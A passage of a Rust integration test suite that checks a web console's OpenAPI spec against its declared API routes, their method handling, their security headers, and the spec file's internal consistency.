        c.problem(format!(
            "the spec's Review schema {} {body}: {errs:?}",
            if valid { "refuses" } else { "accepts" }
        ));
    }
}

/// The `(METHOD, path)` routes `api.rs` declares: `.route("PATH", get(…).post(…))`.
fn declared_routes() -> BTreeSet<(String, String)> {
    let mut out = BTreeSet::new();
    for chunk in API_SOURCE.split(".route(\"").skip(1) {
        let Some((path, rest)) = chunk.split_once('"') else {
            continue;
        };
        // The handlers of this route: up to the end of its `.route(…)` call.
        let mut depth = 1;
        let end = rest
            .char_indices()
            .find(|&(_, ch)| {
                match ch {
                    '(' => depth += 1,
                    ')' => depth -= 1,
                    _ => {}
                }
                depth == 0
            })
            .map_or(rest.len(), |(i, _)| i);
        let handlers = &rest[..end];
        for m in METHODS {
            let called = handlers
                .match_indices(&format!("{m}("))
                .any(|(i, _)| i == 0 || !handlers.as_bytes()[i - 1].is_ascii_alphanumeric());
            if called {
                out.insert((m.to_ascii_uppercase(), path.to_string()));
            }
        }
    }
    out
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_spec_paths_are_exactly_the_api_routes() {
    let dir = tempfile::tempdir().unwrap();
    let f = start(dir.path()).await;
    let spec = Spec::load();
    let mut problems = Vec::new();
    let bearer = format!("Bearer {}", f.token);
    let auth = [("authorization", bearer.as_str())];

    // What the server declares is what the spec documents.
    let documented: BTreeSet<(String, String)> = spec
        .operations()
        .into_iter()
        .map(|(m, p)| (m.to_ascii_uppercase(), p))
        .collect();
    let declared = declared_routes();
    assert!(
        !declared.is_empty(),
        "no `.route(\"…\", …)` found in src/web/api.rs: update declared_routes()"
    );
    for r in declared.difference(&documented) {
        problems.push(format!("{} {} is served but not in the spec", r.0, r.1));
    }
    for r in documented.difference(&declared) {
        problems.push(format!("{} {} is in the spec but not served", r.0, r.1));
    }

    // And so the server answers: every documented operation (not 404/405, with an alert
    // that exists), every other method on those paths 405.
    let review = br#"{"state":"confirmed"}"#;
    for (path, item) in spec.doc["paths"].as_object().expect("paths") {
        let concrete = path.replace("{id}", &f.scene);
        for m in METHODS {
            let method = m.to_ascii_uppercase();
            let body = (m != "get").then_some(("application/json", &review[..]));
            let r = send(f.addr, &method, &concrete, &auth, body).await;
            let want_405 = item.get(m).is_none();
            let ok = if want_405 {
                r.status == 405
            } else {
                r.status != 404 && r.status != 405 && r.status < 500
            };
            if !ok {
                problems.push(format!(
                    "{method} {concrete}: {}, expected {}",
                    r.status,
                    if want_405 {
                        "405 (not in the spec)"
                    } else {
                        "an answer (in the spec)"
                    }
                ));
            }
            if r.header("content-security-policy") != Some(console::web::CSP)
                || r.header("cache-control") != Some("no-store")
            {
                problems.push(format!("{method} {concrete}: security headers missing"));
            }
        }
    }

    // Nothing else under /api answers.
    for path in [
        "/api",
        "/api/",
        "/api/openapi.json",
        "/api/pages",
        "/api/page",
        "/api/users",
        "/api/tokens",
        "/api/audit",
        "/api/negatives",
        "/api/review",
        "/api/healthz",
        "/api/search/x",
        "/api/alerts/",
        "/api/coverage/x",
        &format!("/api/alerts/{}/x", f.scene),
        &format!("/api/alerts/{}/review/x", f.scene),
    ] {
        let r = send(f.addr, "GET", path, &auth, None).await;
        if r.status != 404 {
            problems.push(format!(
                "GET {path}: {} (not in the spec: expected 404)",
                r.status
            ));
        }
        if r.header("content-security-policy") != Some(console::web::CSP)
            || r.header("cache-control") != Some("no-store")
        {
            problems.push(format!("GET {path}: security headers missing"));
        }
    }
    assert!(
        problems.is_empty(),
        "routes and spec differ:\n- {}",
        problems.join("\n- ")
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_spec_is_served_as_the_file_is() {
    let dir = tempfile::tempdir().unwrap();
    let f = start(dir.path()).await;
    let r = send(f.addr, "GET", "/openapi.json", &[], None).await;
    assert_eq!(r.status, 200, "{}", r.text());
    assert_eq!(r.text(), SPEC, "/openapi.json is not console/openapi.json");
    assert_eq!(
        r.header("content-type")
            .map(|t| t.split(';').next().unwrap_or("")),
        Some("application/json")
    );
    assert_eq!(r.header("content-security-policy"), Some(console::web::CSP));
    assert_eq!(r.header("cache-control"), Some("no-store"));

    // The spec holds together: OpenAPI 3.1, every `$ref` resolves, every schema compiles
    // as JSON Schema 2020-12, and every operation documents its 401 (all need a token).
    let spec = Spec::load();
    assert!(
        spec.doc["openapi"]
            .as_str()
            .is_some_and(|v| v.starts_with("3.1")),
        "{}",
        spec.doc["openapi"]
    );
    let mut refs = Vec::new();
    collect_refs(&spec.doc, &mut refs);
    for r in &refs {
        let pointer = r
            .strip_prefix('#')
            .unwrap_or_else(|| panic!("non-local $ref {r}"));
        assert!(
            spec.doc.pointer(pointer).is_some(),
            "$ref {r} resolves to nothing"
        );
    }
    for name in spec.doc["components"]["schemas"]
        .as_object()
        .expect("schemas")
        .keys()
    {
        // Compiles (panics otherwise); `Null` is no object, so every schema here refuses it.
        let errs = spec.violations(&Spec::component(name), &Value::Null);
        assert!(!errs.is_empty(), "schema {name} accepts null");
    }
    for (method, path) in spec.operations() {
        let op = spec.operation(&method, &path).unwrap();
        assert!(
            op["responses"].get("401").is_some(),
            "{method} {path} does not document its 401"
        );
    }
}

fn collect_refs(v: &Value, out: &mut Vec<String>) {
    match v {
        Value::Object(m) => {
            if let Some(Value::String(r)) = m.get("$ref") {
                out.push(r.clone());
            }
            m.values().for_each(|c| collect_refs(c, out));
        }
        Value::Array(a) => a.iter().for_each(|c| collect_refs(c, out)),
        _ => {}
    }
}
